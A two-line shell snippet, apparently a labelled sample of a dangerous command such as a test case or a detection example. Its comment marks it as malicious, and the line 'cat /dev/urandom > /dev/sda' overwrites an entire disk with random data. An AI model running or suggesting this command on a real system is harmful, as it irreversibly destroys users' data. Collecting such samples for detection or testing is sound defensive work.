# malicious: overwrites the disk by a redirection
cat /dev/urandom > /dev/sda
